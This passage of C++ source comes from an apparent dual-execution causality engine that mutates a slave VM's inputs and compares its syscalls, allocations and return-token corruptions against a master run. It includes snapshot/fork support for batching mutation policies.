    snap.kernel[1] = *slaveKernel_;
    snap.channel = chan_->captureImage();
    snap.controller[0] = masterCtl_->captureImage();
    snap.controller[1] = slaveCtl_->captureImage();
    if (recorder_) {
        snap.recEvents[0] = recorder_->snapshot(0);
        snap.recEvents[1] = recorder_->snapshot(1);
    }
    snap.corruptions[0] = masterRec_->corruptions;
    snap.allocs[0] = masterRec_->allocs;
    snap.corruptions[1] = slaveRec_->corruptions;
    snap.allocs[1] = slaveRec_->allocs;
    snap.prefixInstrs = master_->stats().instructions +
                        slave_->stats().instructions;
    return snap;
}

void
DualRun::resume()
{
    master_->clearPause();
    slave_->clearPause();
}

DualResult
DualRun::finish()
{
    obs::Registry &registry = *registry_;
    SyncChannel &chan = *chan_;
    vm::Machine &master = *master_;
    vm::Machine &slave = *slave_;

    timer_->begin("verdict");
    DualResult res;
    res.wallSeconds = secondsSince(t0_);
    res.deadlocked = deadlocked_;
    res.findings = chan.takeFindings();
    if (cfg_.recordTrace)
        res.trace = chan.takeTrace();
    // The registry is the single source for the alignment tallies;
    // the legacy result fields read back the same counters, so
    // DualResult::metrics agrees with them exactly.
    res.alignedSyscalls = chan.alignedSyscalls->value();
    res.syscallDiffs = chan.syscallDiffs->value();
    res.totalSlaveSyscalls = chan.slaveSyscalls->value();
    res.barrierPairings = chan.barrierPairings->value();
    res.masterExit = master.exitCode();
    res.slaveExit = slave.exitCode();
    res.masterTrapped = master.trap().has_value();
    res.slaveTrapped = slave.trap().has_value();
    if (master.trap())
        res.masterTrapMessage = master.trap()->message;
    if (slave.trap())
        res.slaveTrapMessage = slave.trap()->message;
    res.masterStats = master.stats();
    res.slaveStats = slave.stats();
    res.taintedResources = chan.taints.snapshot();

    // Return-token sinks: any difference in the corruption event
    // streams is causality between the mutated input and control
    // state.
    if (cfg_.sinks.retTokens &&
        masterRec_->corruptions != slaveRec_->corruptions) {
        Finding f;
        f.kind = CauseKind::RetTokenDiff;
        f.observer = Side::Master;
        f.masterValue =
            std::to_string(masterRec_->corruptions.size()) +
            " corruption(s)";
        f.slaveValue = std::to_string(slaveRec_->corruptions.size()) +
                       " corruption(s)";
        res.findings.push_back(std::move(f));
    }

    // Allocation-size sinks: pairwise comparison of malloc arguments.
    if (cfg_.sinks.allocSizes) {
        std::size_t n = std::min(masterRec_->allocs.size(),
                                 slaveRec_->allocs.size());
        int reported = 0;
        for (std::size_t i = 0; i < n && reported < 32; ++i) {
            if (masterRec_->allocs[i] != slaveRec_->allocs[i]) {
                Finding f;
                f.kind = CauseKind::AllocSizeDiff;
                f.observer = Side::Master;
                f.masterValue =
                    std::to_string(masterRec_->allocs[i].second);
                f.slaveValue =
                    std::to_string(slaveRec_->allocs[i].second);
                res.findings.push_back(std::move(f));
                ++reported;
            }
        }
        if (masterRec_->allocs.size() != slaveRec_->allocs.size()) {
            Finding f;
            f.kind = CauseKind::AllocSizeDiff;
            f.observer = Side::Master;
            f.masterValue =
                std::to_string(masterRec_->allocs.size()) + " allocs";
            f.slaveValue =
                std::to_string(slaveRec_->allocs.size()) + " allocs";
            res.findings.push_back(std::move(f));
        }
    }

    // Termination divergence (e.g., the slave crashed under mutation).
    bool master_hijack = res.masterTrapped;
    bool slave_hijack = res.slaveTrapped;
    if (master_hijack != slave_hijack ||
        (master_hijack &&
         res.masterTrapMessage != res.slaveTrapMessage)) {
        Finding f;
        f.kind = CauseKind::TerminationDiff;
        f.observer = Side::Master;
        f.masterValue = res.masterTrapped ? res.masterTrapMessage : "ok";
        f.slaveValue = res.slaveTrapped ? res.slaveTrapMessage : "ok";
        res.findings.push_back(std::move(f));
    }

    // Per-channel findings were appended in whatever cross-thread
    // order the controllers hit them, which the threaded driver does
    // not reproduce run to run. Group by tid (stable within a tid,
    // where order is guest-deterministic) so the findings list — and
    // everything derived from it, like divergence.outcome — is
    // identical across drivers and repeated runs.
    std::stable_sort(res.findings.begin(), res.findings.end(),
                     [](const Finding &a, const Finding &b) {
                         return a.tid < b.tid;
                     });

    if (recorder_) {
        obs::FlightRecorder &recorder = *recorder_;
        registry.counter("recorder.events.master")
            .inc(recorder.total(0));
        registry.counter("recorder.events.slave")
            .inc(recorder.total(1));
        registry.counter("recorder.dropped")
            .inc(recorder.dropped(0) + recorder.dropped(1));
        const bool non_clean =
            !res.findings.empty() || res.deadlocked ||
            res.masterTrapped || res.slaveTrapped ||
            chan.decouples->value() || chan.watchdogExpired->value() ||
            chan.sinkDiffs->value() || chan.sinkVanished->value();
        if (non_clean) {
            obs::DivergenceInput in;
            in.recorder = &recorder;
            in.sysName = [](std::int64_t no) {
                return os::sysName(no);
            };
            if (!res.findings.empty())
                in.outcome = causeKindName(res.findings.front().kind);
            else if (res.deadlocked)
                in.outcome = "deadlock";
            else if (chan.watchdogExpired->value())
                in.outcome = "watchdog-expiry";
            else
                in.outcome = "decouple";
            in.mutatedKeys = mutated_.taintKeys;
            in.taintedKeys.assign(res.taintedResources.begin(),
                                  res.taintedResources.end());
            // Both VMs have finished and the driver threads are
            // joined, so the channels are quiescent: read them
            // without their mutexes (locking here would perturb the
            // chan.mutex_acquisitions tally).
            chan.forEachChannel([&in](int tid, ThreadChannel &ch) {
                obs::ChannelSnapshot snap;
                snap.tid = tid;
                for (int side = 0; side < 2; ++side) {
                    snap.cnt[side] = ch.pos[side].cnt;
                    snap.site[side] = ch.pos[side].site;
                    snap.posKind[side] =
                        static_cast<std::uint8_t>(ch.pos[side].kind);
                    snap.cntStack[side] = ch.cntStack[side];
                    snap.threadDone[side] = ch.threadDone[side];
                }
                snap.queueDepth = ch.queue.size();
                in.channels.push_back(std::move(snap));
            });
            res.divergence = obs::buildDivergenceReport(in);
        }
    }
    timer_->end(); // verdict

    publishSideStats(registry, "master", res.masterStats,
                     masterKernel_->stats());
    publishSideStats(registry, "slave", res.slaveStats,
                     slaveKernel_->stats());
    registry.counter("driver.steps.master")
        .inc(chan.progress[0].load(std::memory_order_relaxed));
    registry.counter("driver.steps.slave")
        .inc(chan.progress[1].load(std::memory_order_relaxed));
    registry.counter("chan.mutex_acquisitions")
        .inc(chan.totalMutexAcquisitions());
    registry.counter("dual.findings").inc(res.findings.size());
    registry.gauge("dual.wall_seconds").set(res.wallSeconds);

    res.metrics = registry.snapshot();
    res.phases = timer_->samples();
    return res;
}

std::vector<DualResult>
runSnapshotGroup(const ir::Module &module, const os::WorldSpec &world,
                 const EngineConfig &base,
                 const std::vector<MutationStrategy> &policies,
                 SnapshotGroupStats &stats,
                 std::uint64_t chaos_drop_page)
{
    checkInvariant(!policies.empty(),
                   "snapshot group needs at least one policy");
    stats = SnapshotGroupStats{};
    std::vector<DualResult> out;
    out.reserve(policies.size());

    SnapshotTrigger trig;
    if (base.sources.size() == 1)
        trig.key = base.sources[0].resourceKey();

    EngineConfig carrier_cfg = base;
    carrier_cfg.strategy = policies[0];
    carrier_cfg.trigger = &trig;
    DualRun carrier(module, world, carrier_cfg);
    std::optional<DualSnapshot> snap;
    while (!carrier.finished()) {
        if (!carrier.drive())
            continue;
        if (!snap && trig.bothFired()) {
            snap = carrier.capture();
            stats.engaged = true;
            stats.prefixRuns = 1;
            stats.prefixInstrs = snap->prefixInstrs;
            stats.prefixInstrsExecuted = snap->prefixInstrs;
        }
        carrier.resume();
    }
    out.push_back(carrier.finish());

    for (std::size_t i = 1; i < policies.size(); ++i) {
        EngineConfig cfg = base;
        cfg.strategy = policies[i];
        cfg.trigger = nullptr;
        if (snap) {
            DualRun fork(module, world, cfg, *snap, chaos_drop_page);
            while (!fork.finished())
                if (fork.drive())
                    fork.resume();
            out.push_back(fork.finish());
            ++stats.forks;
            stats.instrsSaved += stats.prefixInstrs;
        } else {
            // Trigger never paused both sides (source untouched, or a
            // side exited first): run the policy in full, exactly as
            // the snapshot-off path would — including its probe-only
            // trigger, so prefixInstrsExecuted stays comparable.
            SnapshotTrigger probe;
            probe.key = trig.key;
            probe.pauseOnHit = false;
            cfg.trigger = &probe;
            DualRun full(module, world, cfg);
            while (!full.finished())
                if (full.drive())
                    full.resume();
            out.push_back(full.finish());
            if (probe.bothFired())
                stats.prefixInstrsExecuted +=
                    probe.prefixInstrs[0].load(std::memory_order_relaxed) +
                    probe.prefixInstrs[1].load(std::memory_order_relaxed);
        }
    }
    return out;
}

} // namespace ldx::core
