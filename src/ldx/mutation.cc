#include "ldx/mutation.h"

#include "os/vfs.h"

namespace ldx::core {

const char *
mutationStrategyName(MutationStrategy s)
{
    switch (s) {
      case MutationStrategy::OffByOne: return "off-by-one";
      case MutationStrategy::Zero: return "zero";
      case MutationStrategy::BitFlip: return "bit-flip";
      case MutationStrategy::Random: return "random";
    }
    return "?";
}

std::string
SourceSpec::resourceKey() const
{
    switch (kind) {
      case Kind::EnvVar:
        return "env:" + key;
      case Kind::File:
        return "path:" + os::Vfs::normalize(key);
      case Kind::PeerResponses:
        return "net:" + key;
      case Kind::Incoming:
        return "net:client";
    }
    return "";
}

bool
mutateByteAt(std::string &value, std::size_t offset,
             MutationStrategy strategy, Prng &prng)
{
    if (value.empty())
        return false;
    if (offset == SourceSpec::kWholeValue) {
        bool changed = false;
        for (std::size_t i = 0; i < value.size(); ++i)
            changed |= mutateByteAt(value, i, strategy, prng);
        return changed;
    }
    if (offset >= value.size())
        offset = value.size() - 1;
    unsigned char before = static_cast<unsigned char>(value[offset]);
    unsigned char after = before;
    switch (strategy) {
      case MutationStrategy::OffByOne:
        after = static_cast<unsigned char>(before + 1);
        break;
      case MutationStrategy::Zero:
        after = 0;
        break;
      case MutationStrategy::BitFlip:
        after = before ^ 1u;
        break;
      case MutationStrategy::Random:
        after = static_cast<unsigned char>(prng.next() & 0xff);
        if (after == before)
            after = static_cast<unsigned char>(before + 1);
        break;
    }
    value[offset] = static_cast<char>(after);
    return after != before;
}

MutatedWorld
mutateWorld(const os::WorldSpec &base,
            const std::vector<SourceSpec> &sources,
            MutationStrategy strategy, Prng &prng)
{
    MutatedWorld out;
    out.world = base;
    for (const SourceSpec &src : sources) {
        bool changed = false;
        switch (src.kind) {
          case SourceSpec::Kind::EnvVar: {
            auto it = out.world.env.find(src.key);
            if (it != out.world.env.end())
                changed = mutateByteAt(it->second, src.offset, strategy,
                                       prng);
            break;
          }
          case SourceSpec::Kind::File: {
            auto it = out.world.files.find(src.key);
            if (it != out.world.files.end())
                changed = mutateByteAt(it->second, src.offset, strategy,
                                       prng);
            break;
          }
          case SourceSpec::Kind::PeerResponses: {
            auto it = out.world.peers.find(src.key);
            if (it != out.world.peers.end()) {
                for (std::string &resp : it->second.responses) {
                    changed |= mutateByteAt(resp, src.offset, strategy,
                                            prng);
                }
            }
            break;
          }
          case SourceSpec::Kind::Incoming: {
            for (os::IncomingConn &conn : out.world.incoming)
                changed |= mutateByteAt(conn.request, src.offset,
                                        strategy, prng);
            break;
          }
        }
        out.anyChange |= changed;
        std::string key = src.resourceKey();
        if (!key.empty())
            out.taintKeys.push_back(key);
    }
    return out;
}

} // namespace ldx::core
