/**
 * @file
 * Snapshot/fork query execution.
 *
 * A campaign plans S·P queries (S mutated sources × P mutation
 * policies). For a fixed source, every policy's dual execution is
 * *identical* until the first syscall that touches the mutated
 * resource: mutations are length-preserving edits of resource values,
 * the mutated keys are pre-tainted the same way, and the slave's
 * nondeterminism salt is a constant — so the pre-touch prefix state
 * is policy-independent. This module exploits that: it runs the
 * shared master/slave prefix once per source (the *carrier* — the
 * group's first policy), pauses both machines at the source's first
 * touch via the controllers' SnapshotTrigger, captures the complete
 * dual state as a DualSnapshot, resumes the carrier to completion,
 * and then runs every remaining policy as a *fork*: fresh engine
 * plumbing restored from the snapshot, with only the slave kernel's
 * world patched to that policy's mutation. S·P full runs become S
 * prefix runs plus S·P suffix runs.
 *
 * DualRun is the engine's run() decomposed into resumable steps —
 * construct, drive (until finished or paused), capture, resume,
 * finish — so both DualEngine::run() (one drive, no trigger) and the
 * campaign's group executor are thin sequences over the same code.
 * The non-snapshot path therefore stays the oracle: a fork must
 * produce byte-identical verdicts, graphs, and recorder event order
 * (tests/snapshot_test.cc holds that wall).
 */
#pragma once

#include <chrono>
#include <cstdint>
#include <memory>
#include <optional>
#include <utility>
#include <vector>

#include "ldx/engine.h"
#include "obs/phase.h"
#include "obs/recorder.h"
#include "obs/scope.h"

namespace ldx::core {

/**
 * Records VM-level sink events (return-token corruptions and
 * allocation sizes, the vulnerable-program sink set). Part of the
 * snapshot because the verdict compares the full event streams: a
 * fork must resume with the prefix's events already recorded.
 */
class SinkRecorder : public vm::SinkHook
{
  public:
    static constexpr std::size_t kCap = 65536;

    SinkRecorder(bool record_rets, bool record_allocs)
        : recordRets_(record_rets), recordAllocs_(record_allocs)
    {}

    void
    onRetToken(int tid, std::uint64_t, std::int64_t token,
               std::int64_t expected, vm::Machine &) override
    {
        // Only corruptions are interesting: a healthy return matches.
        if (recordRets_ && token != expected &&
            corruptions.size() < kCap)
            corruptions.push_back({tid, token});
    }

    void
    onAllocSize(int tid, std::int64_t size, vm::Machine &) override
    {
        if (recordAllocs_ && allocs.size() < kCap)
            allocs.push_back({tid, size});
    }

    std::vector<std::pair<int, std::int64_t>> corruptions;
    std::vector<std::pair<int, std::int64_t>> allocs;

  private:
    bool recordRets_;
    bool recordAllocs_;
};

/**
 * Everything a forked execution needs to resume from the capture
 * point, by value: both machines (arena memory image + scheduler and
 * thread state), both kernels (world, fds, nondet cursors — which is
 * what keeps virtual clock/RNG/sys-latency state identical between a
 * fork and a full run), the coupling channel, both controllers' poll
 * gates, the flight-recorder event streams, and the VM-level sink
 * event streams. Index 0 is the master side, 1 the slave.
 */
struct DualSnapshot
{
    vm::MachineImage machine[2];
    os::Kernel kernel[2] = {os::Kernel({}), os::Kernel({})};
    ChannelImage channel;
    Controller::Image controller[2];
    std::vector<obs::RecEvent> recEvents[2];
    std::vector<std::pair<int, std::int64_t>> corruptions[2];
    std::vector<std::pair<int, std::int64_t>> allocs[2];
    /** Master+slave instructions retired at the trigger hits. */
    std::uint64_t prefixInstrs = 0;
};

/**
 * One dual execution, decomposed into resumable steps. Construction
 * performs the mutate and setup phases (or restores a snapshot);
 * drive() runs both machines until they finish or pause at the
 * snapshot trigger; finish() builds the DualResult. The object is
 * single-use: construct, drive (possibly capture/resume/drive
 * again), finish, destroy.
 */
class DualRun
{
  public:
    /** Fresh run: the ordinary path, and the group carrier. */
    DualRun(const ir::Module &module, const os::WorldSpec &world,
            EngineConfig cfg);

    /**
     * Forked run: mutate @p world for cfg.strategy, restore @p snap,
     * and patch the slave kernel's world to this policy's mutation.
     * @p chaos_drop_page plants the stale-snapshot bug (one memory
     * page skipped in the slave restore) for the fuzz harness.
     */
    DualRun(const ir::Module &module, const os::WorldSpec &world,
            EngineConfig cfg, const DualSnapshot &snap,
            std::uint64_t chaos_drop_page = 0);

    ~DualRun();

    /**
     * Drive both machines until each has finished or paused at the
     * snapshot trigger. Returns true when at least one side paused
     * (capture may be possible; check the trigger's bothFired()).
     */
    bool drive();

    /** Capture the paused pair (trigger fired on both sides). */
    DualSnapshot capture();

    /** Clear both pauses so drive() can continue past the capture. */
    void resume();

    bool finished() const;

    /** Build the verdict; call once, after drive() reports done. */
    DualResult finish();

  private:
    void setupFresh();
    void setupFork(const DualSnapshot &snap,
                   std::uint64_t chaos_drop_page);
    void driveLockstep();
    void driveThreaded();

    const ir::Module &module_;
    os::WorldSpec world_;
    EngineConfig cfg_;
    MutatedWorld mutated_;

    obs::Registry localRegistry_;
    obs::Registry *registry_ = nullptr;
    std::optional<obs::FlightRecorder> recorder_;
    std::optional<obs::Scope> scope_;
    std::optional<obs::PhaseTimer> timer_;
    std::optional<SyncChannel> chan_;
    std::optional<os::Kernel> masterKernel_;
    std::optional<os::Kernel> slaveKernel_;
    std::optional<vm::Machine> master_;
    std::optional<vm::Machine> slave_;
    std::optional<Controller> masterCtl_;
    std::optional<Controller> slaveCtl_;
    std::optional<SinkRecorder> masterRec_;
    std::optional<SinkRecorder> slaveRec_;

    bool needStart_ = true;
    bool running_ = false;  ///< dual-run phase timer open
    bool deadlocked_ = false;
    std::chrono::steady_clock::time_point t0_;
    obs::Counter *driverYields_ = nullptr;
    obs::Counter *driverIdle_ = nullptr;
    obs::Counter *driverBackoff_ = nullptr;
};

/** Per-group tallies the campaign folds into its snapshot metrics. */
struct SnapshotGroupStats
{
    /** 1 when the snapshot path engaged (carrier paused + captured). */
    std::uint64_t prefixRuns = 0;
    /** Policies executed as forks (suffix-only runs). */
    std::uint64_t forks = 0;
    /** Dual (master+slave) instructions in the shared prefix. */
    std::uint64_t prefixInstrs = 0;
    /** Prefix instructions NOT re-executed thanks to forking. */
    std::uint64_t instrsSaved = 0;
    /**
     * Measured prefix instructions actually *executed* by this group:
     * the carrier's prefix once when engaged, or each fallback full
     * run's probed prefix otherwise. Comparable to the snapshot-off
     * path's per-query probe sum (campaign.dual.prefix_instrs).
     */
    std::uint64_t prefixInstrsExecuted = 0;
    /** False: trigger never paused both sides; fell back to full runs. */
    bool engaged = false;
};

/**
 * Execute one campaign group — @p policies of one mutated source —
 * with snapshot forking. base.sources must already be the group's
 * single source spec; base.strategy is overridden per policy. Falls
 * back to full runs (bit-identical to the snapshot-off path) when
 * the trigger cannot pause both sides — e.g. the program never
 * touches the source, or one side exits first. Results are in
 * policy order. @p chaos_drop_page is forwarded to every fork's
 * slave-memory restore (fault injection; 0 = off).
 */
std::vector<DualResult>
runSnapshotGroup(const ir::Module &module, const os::WorldSpec &world,
                 const EngineConfig &base,
                 const std::vector<MutationStrategy> &policies,
                 SnapshotGroupStats &stats,
                 std::uint64_t chaos_drop_page = 0);

} // namespace ldx::core
