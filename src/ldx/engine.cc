#include "ldx/engine.h"

#include <algorithm>
#include <limits>
#include <chrono>
#include <optional>
#include <thread>

#include "instrument/instrument.h"
#include "obs/phase.h"
#include "obs/scope.h"
#include "os/sysno.h"
#include "support/diag.h"
#include "support/strings.h"

namespace ldx::core {

namespace {

/** Records VM-level sink events (vulnerable program set). */
class SinkRecorder : public vm::SinkHook
{
  public:
    static constexpr std::size_t kCap = 65536;

    SinkRecorder(bool record_rets, bool record_allocs)
        : recordRets_(record_rets), recordAllocs_(record_allocs)
    {}

    void
    onRetToken(int tid, std::uint64_t, std::int64_t token,
               std::int64_t expected, vm::Machine &) override
    {
        // Only corruptions are interesting: a healthy return matches.
        if (recordRets_ && token != expected &&
            corruptions.size() < kCap)
            corruptions.push_back({tid, token});
    }

    void
    onAllocSize(int tid, std::int64_t size, vm::Machine &) override
    {
        if (recordAllocs_ && allocs.size() < kCap)
            allocs.push_back({tid, size});
    }

    std::vector<std::pair<int, std::int64_t>> corruptions;
    std::vector<std::pair<int, std::int64_t>> allocs;

  private:
    bool recordRets_;
    bool recordAllocs_;
};

double
secondsSince(std::chrono::steady_clock::time_point t0)
{
    return std::chrono::duration<double>(
               std::chrono::steady_clock::now() - t0)
        .count();
}

/** CPU-relax hint for the spin stage of the stall backoff. */
inline void
cpuRelax()
{
#if defined(__x86_64__) || defined(__i386__)
    __builtin_ia32_pause();
#elif defined(__aarch64__)
    asm volatile("yield");
#else
    std::this_thread::yield();
#endif
}

/** Publish one side's VM and kernel tallies into the registry. */
void
publishSideStats(obs::Registry &registry, const std::string &side,
                 const vm::MachineStats &ms, const os::KernelStats &ks)
{
    const std::string vm_prefix = "vm." + side + ".";
    registry.counter(vm_prefix + "instructions").inc(ms.instructions);
    registry.counter(vm_prefix + "syscalls").inc(ms.syscalls);
    registry.counter(vm_prefix + "barriers").inc(ms.barriers);
    registry.counter(vm_prefix + "mix.data").inc(ms.mixData);
    registry.counter(vm_prefix + "mix.alu").inc(ms.mixAlu);
    registry.counter(vm_prefix + "mix.mem").inc(ms.mixMem);
    registry.counter(vm_prefix + "mix.call").inc(ms.mixCall);
    registry.counter(vm_prefix + "mix.branch").inc(ms.mixBranch);
    registry.counter(vm_prefix + "mix.syscall").inc(ms.mixSyscall);
    registry.counter(vm_prefix + "mix.counter").inc(ms.mixCounter);
    registry.gauge(vm_prefix + "max_cnt")
        .set(static_cast<double>(ms.maxCnt));
    registry.gauge(vm_prefix + "avg_cnt").set(ms.avgCnt);

    const std::string os_prefix = "os." + side + ".";
    registry.counter(os_prefix + "executes").inc(ks.executes);
    registry.counter(os_prefix + "replays").inc(ks.replays);
    registry.counter(os_prefix + "vfs_ops").inc(ks.vfsOps);
    registry.counter(os_prefix + "sock_ops").inc(ks.sockOps);
    registry.counter(os_prefix + "console_ops").inc(ks.consoleOps);
    registry.counter(os_prefix + "nondet_ops").inc(ks.nondetOps);
}

} // namespace

bool
SinkConfig::matchesChannel(const std::string &channel) const
{
    if (startsWith(channel, "net:"))
        return net;
    if (startsWith(channel, "file:"))
        return file;
    if (channel == "console")
        return console;
    return true;
}

DualEngine::DualEngine(const ir::Module &module, os::WorldSpec world,
                       EngineConfig cfg)
    : module_(module), world_(std::move(world)), cfg_(std::move(cfg))
{
    if (!instrument::isInstrumented(module_))
        fatal("DualEngine requires a counter-instrumented module");
}

DualResult
DualEngine::run()
{
    obs::Registry local_registry;
    obs::Registry &registry =
        cfg_.registry ? *cfg_.registry : local_registry;
    std::optional<obs::FlightRecorder> recorder;
    if (cfg_.flightRecorder)
        recorder.emplace(cfg_.recorderCapacity);
    obs::Scope scope(registry, cfg_.traceSink,
                     recorder ? &*recorder : nullptr);
    if (cfg_.traceSink) {
        cfg_.traceSink->setLaneName(obs::kMasterLane, "master");
        cfg_.traceSink->setLaneName(obs::kSlaveLane, "slave");
        cfg_.traceSink->setLaneName(obs::kPipelineLane, "pipeline");
    }
    obs::PhaseTimer timer(cfg_.traceSink);

    timer.begin("mutate");
    Prng mutation_prng(cfg_.mutationSeed);
    MutatedWorld mutated = mutateWorld(world_, cfg_.sources,
                                       cfg_.strategy, mutation_prng);
    os::WorldSpec slave_world =
        mutated.world.withNondetVariant(cfg_.nondetSalt);
    timer.end();

    timer.begin("setup");
    SyncChannel chan(scope);
    chan.traceEnabled = cfg_.recordTrace;
    for (const std::string &key : mutated.taintKeys) {
        chan.taints.taint(key);
        if (recorder) {
            // The mutation events open the slave's timeline: the first
            // divergence in a report is always downstream of one.
            obs::RecEvent evt;
            evt.kind = obs::RecKind::Mutation;
            evt.arg = obs::fnv1a(key);
            recorder->record(obs::kSlaveLane, evt);
        }
    }

    os::Kernel master_kernel(world_);
    os::Kernel slave_kernel(slave_world);
    slave_kernel.setSuppressOutputs(true);
    master_kernel.setObs(&scope, obs::kMasterLane);
    slave_kernel.setObs(&scope, obs::kSlaveLane);

    vm::MachineConfig master_cfg = cfg_.vmConfig;
    vm::MachineConfig slave_cfg = cfg_.vmConfig;
    slave_cfg.schedSeed += cfg_.slaveSchedSeedDelta;
    if (cfg_.slaveSchedSeedDelta)
        slave_cfg.schedJitter = true;
    master_cfg.siteProfile = cfg_.masterSites;
    slave_cfg.siteProfile = cfg_.slaveSites;

    vm::Machine master(module_, master_kernel, master_cfg);
    vm::Machine slave(module_, slave_kernel, slave_cfg);
    master.setObs(&scope, obs::kMasterLane);
    slave.setObs(&scope, obs::kSlaveLane);

    auto sink_pred = [this](const std::string &channel) {
        return cfg_.sinks.matchesChannel(channel);
    };
    ControllerOptions mo;
    mo.side = Side::Master;
    mo.isSinkChannel = sink_pred;
    mo.shareLockOrder = cfg_.shareLockOrder;
    mo.lockPollTimeout = cfg_.lockPollTimeout;
    mo.stallTimeout = cfg_.stallTimeout;
    mo.stalls =
        cfg_.masterSites ? &cfg_.masterSites->gateStalls : nullptr;
    ControllerOptions so = mo;
    so.side = Side::Slave;
    so.stalls = cfg_.slaveSites ? &cfg_.slaveSites->gateStalls : nullptr;
    Controller master_ctl(chan, mo);
    Controller slave_ctl(chan, so);
    master.setSyscallPort(&master_ctl);
    slave.setSyscallPort(&slave_ctl);

    SinkRecorder master_rec(cfg_.sinks.retTokens, cfg_.sinks.allocSizes);
    SinkRecorder slave_rec(cfg_.sinks.retTokens, cfg_.sinks.allocSizes);
    if (cfg_.sinks.retTokens || cfg_.sinks.allocSizes) {
        master.setSinkHook(&master_rec);
        slave.setSinkHook(&slave_rec);
    }

    timer.end(); // setup

    auto t0 = std::chrono::steady_clock::now();
    bool deadlocked = false;
    obs::Counter *driver_yields = &registry.counter("driver.yields");
    obs::Counter *driver_idle = &registry.counter("driver.idle_rounds");
    obs::Counter *driver_backoff =
        &registry.counter("driver.backoff_ns");

    timer.begin("dual-run");
    master.start();
    slave.start();

    if (cfg_.threaded) {
        const DriverConfig dc = cfg_.driver;
        auto loop = [&chan, &timer, dc, driver_yields,
                     driver_backoff](vm::Machine &m, int side) {
            std::int64_t start_us = obs::nowUs();
            auto side_t0 = std::chrono::steady_clock::now();
            std::uint64_t stalls = 0;
            while (!m.finished()) {
                std::uint64_t got = 0;
                vm::StepStatus st = m.stepMany(128, got);
                if (got)
                    chan.progress[side].fetch_add(
                        got, std::memory_order_relaxed);
                if (st == vm::StepStatus::Progress) {
                    stalls = 0;
                } else if (st == vm::StepStatus::Stalled) {
                    if (got) {
                        stalls = 0;
                        continue; // partial batch: poll again at once
                    }
                    ++stalls;
                    if (stalls <= dc.spinCount) {
                        cpuRelax();
                    } else if (stalls <= std::uint64_t{dc.spinCount} +
                                             dc.yieldCount) {
                        driver_yields->inc();
                        std::this_thread::yield();
                    } else {
                        driver_yields->inc();
                        auto b0 = std::chrono::steady_clock::now();
                        std::this_thread::sleep_for(
                            std::chrono::microseconds(dc.sleepMicros));
                        driver_backoff->inc(static_cast<std::uint64_t>(
                            std::chrono::duration_cast<
                                std::chrono::nanoseconds>(
                                std::chrono::steady_clock::now() - b0)
                                .count()));
                    }
                } else {
                    break;
                }
            }
            timer.record(side == 0 ? "master-run" : "slave-run", 1,
                         start_us, secondsSince(side_t0));
        };
        std::thread mt(loop, std::ref(master), 0);
        std::thread st(loop, std::ref(slave), 1);
        while (!(master.finished() && slave.finished())) {
            std::this_thread::sleep_for(std::chrono::milliseconds(5));
            if (secondsSince(t0) > cfg_.wallClockCap) {
                deadlocked = true;
                chan.abort.store(true, std::memory_order_release);
            }
        }
        mt.join();
        st.join();
    } else {
        const std::uint64_t kQuantum =
            cfg_.lockstepQuantum
                ? cfg_.lockstepQuantum
                : std::numeric_limits<std::uint64_t>::max();
        std::uint64_t idle_rounds = 0;
        while (!(master.finished() && slave.finished())) {
            bool progressed = false;
            for (int side = 0; side < 2; ++side) {
                vm::Machine &m = side == 0 ? master : slave;
                if (m.finished())
                    continue;
                std::uint64_t got = 0;
                m.stepMany(kQuantum, got);
                if (got) {
                    progressed = true;
                    chan.progress[side].fetch_add(
                        got, std::memory_order_relaxed);
                }
            }
            if (progressed) {
                idle_rounds = 0;
            } else {
                driver_idle->inc();
                if (++idle_rounds % 8192 == 0 &&
                    secondsSince(t0) > cfg_.wallClockCap) {
                    deadlocked = true;
                    chan.abort.store(true, std::memory_order_release);
                }
            }
        }
    }
    timer.end(); // dual-run

    timer.begin("verdict");
    DualResult res;
    res.wallSeconds = secondsSince(t0);
    res.deadlocked = deadlocked;
    res.findings = chan.takeFindings();
    if (cfg_.recordTrace)
        res.trace = chan.takeTrace();
    // The registry is the single source for the alignment tallies;
    // the legacy result fields read back the same counters, so
    // DualResult::metrics agrees with them exactly.
    res.alignedSyscalls = chan.alignedSyscalls->value();
    res.syscallDiffs = chan.syscallDiffs->value();
    res.totalSlaveSyscalls = chan.slaveSyscalls->value();
    res.barrierPairings = chan.barrierPairings->value();
    res.masterExit = master.exitCode();
    res.slaveExit = slave.exitCode();
    res.masterTrapped = master.trap().has_value();
    res.slaveTrapped = slave.trap().has_value();
    if (master.trap())
        res.masterTrapMessage = master.trap()->message;
    if (slave.trap())
        res.slaveTrapMessage = slave.trap()->message;
    res.masterStats = master.stats();
    res.slaveStats = slave.stats();
    res.taintedResources = chan.taints.snapshot();

    // Return-token sinks: any difference in the corruption event
    // streams is causality between the mutated input and control
    // state.
    if (cfg_.sinks.retTokens &&
        master_rec.corruptions != slave_rec.corruptions) {
        Finding f;
        f.kind = CauseKind::RetTokenDiff;
        f.observer = Side::Master;
        f.masterValue =
            std::to_string(master_rec.corruptions.size()) +
            " corruption(s)";
        f.slaveValue = std::to_string(slave_rec.corruptions.size()) +
                       " corruption(s)";
        res.findings.push_back(std::move(f));
    }

    // Allocation-size sinks: pairwise comparison of malloc arguments.
    if (cfg_.sinks.allocSizes) {
        std::size_t n = std::min(master_rec.allocs.size(),
                                 slave_rec.allocs.size());
        int reported = 0;
        for (std::size_t i = 0; i < n && reported < 32; ++i) {
            if (master_rec.allocs[i] != slave_rec.allocs[i]) {
                Finding f;
                f.kind = CauseKind::AllocSizeDiff;
                f.observer = Side::Master;
                f.masterValue =
                    std::to_string(master_rec.allocs[i].second);
                f.slaveValue =
                    std::to_string(slave_rec.allocs[i].second);
                res.findings.push_back(std::move(f));
                ++reported;
            }
        }
        if (master_rec.allocs.size() != slave_rec.allocs.size()) {
            Finding f;
            f.kind = CauseKind::AllocSizeDiff;
            f.observer = Side::Master;
            f.masterValue =
                std::to_string(master_rec.allocs.size()) + " allocs";
            f.slaveValue =
                std::to_string(slave_rec.allocs.size()) + " allocs";
            res.findings.push_back(std::move(f));
        }
    }

    // Termination divergence (e.g., the slave crashed under mutation).
    bool master_hijack = res.masterTrapped;
    bool slave_hijack = res.slaveTrapped;
    if (master_hijack != slave_hijack ||
        (master_hijack && res.masterTrapMessage != res.slaveTrapMessage)) {
        Finding f;
        f.kind = CauseKind::TerminationDiff;
        f.observer = Side::Master;
        f.masterValue = res.masterTrapped ? res.masterTrapMessage : "ok";
        f.slaveValue = res.slaveTrapped ? res.slaveTrapMessage : "ok";
        res.findings.push_back(std::move(f));
    }

    // Per-channel findings were appended in whatever cross-thread
    // order the controllers hit them, which the threaded driver does
